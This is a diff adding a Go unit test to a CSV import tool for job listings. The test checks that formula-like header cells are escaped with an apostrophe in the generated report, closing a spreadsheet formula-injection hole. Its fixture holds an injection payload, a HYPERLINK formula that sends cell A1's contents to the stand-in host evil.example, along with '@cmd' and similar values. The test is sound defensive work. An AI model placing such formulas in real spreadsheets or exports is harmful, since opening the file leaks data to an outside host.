@@ -51,6 +51,30 @@ func TestReportCSVShape(t *testing.T) {
 	}
 }
 
+// TestReportCSVHeaderFormulas: the header of the uploaded file is written into the report as
+// the file had it, so a column named like a formula is written behind an apostrophe too (it
+// ran when the report was opened in Excel: only the rows' cells were defused).
+func TestReportCSVHeaderFormulas(t *testing.T) {
+	t.Parallel()
+	path := writeFile(t, "jobs.csv", []byte(csvLines(
+		`岗位名称,公司名称,城市,招聘人数,"=HYPERLINK(""http://evil.example/""&A1,""click"")",@cmd,+1,-x`,
+		",西安合成软件有限公司,西安,3,=1+1,a,b,c", // no title: an error
+	)))
+	var out strings.Builder
+	mustImport(t, openStore(t), path, ingest.Options{Type: xiaoqi.KindJob, Mode: ingest.ModeDryRun, ReportCSV: ingest.NewCSVWriter(&out)})
+	recs := readReport(t, out.String())
+	if len(recs) != 2 {
+		t.Fatalf("report:\n%s", out.String())
+	}
+	want := []string{`'=HYPERLINK("http://evil.example/"&A1,"click")`, "'@cmd", "'+1", "'-x"}
+	if got := recs[0][len(recs[0])-4:]; strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Errorf("header cells written as %q, want %q", got, want)
+	}
+	if got := recs[1][len(recs[1])-4]; got != "'=1+1" {
+		t.Errorf("row cell written as %q, want '=1+1", got)
+	}
+}
+
 // TestReportCSVCandidates: the report of a candidate import that others may download hides the
 // cells of personal columns (name, phone, e-mail, birth date, and columns named as IDs, phones
 // or messenger accounts that no field takes), shows the 学号 the uploader finds rows by, and
